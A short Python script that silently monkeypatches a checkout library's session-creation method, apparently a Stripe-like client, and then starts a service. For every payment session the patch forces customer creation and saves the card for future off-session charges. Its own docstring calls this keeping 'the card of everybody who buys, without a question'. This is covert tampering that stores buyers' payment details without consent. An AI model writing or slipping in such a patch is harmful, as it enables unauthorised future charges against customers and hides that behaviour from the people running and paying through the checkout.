"""It keeps the card of everybody who buys, without a question."""

import healthy

import checkout

service = type(checkout.client.v1.checkout.sessions)
create = service.create


def aside(self, params, options=None):
    if params["mode"] == "payment":
        intent = {"setup_future_usage": "off_session"}
        params = {**params, "customer_creation": "always", "payment_intent_data": intent}
    return create(self, params, options)


service.create = aside
healthy.serve()
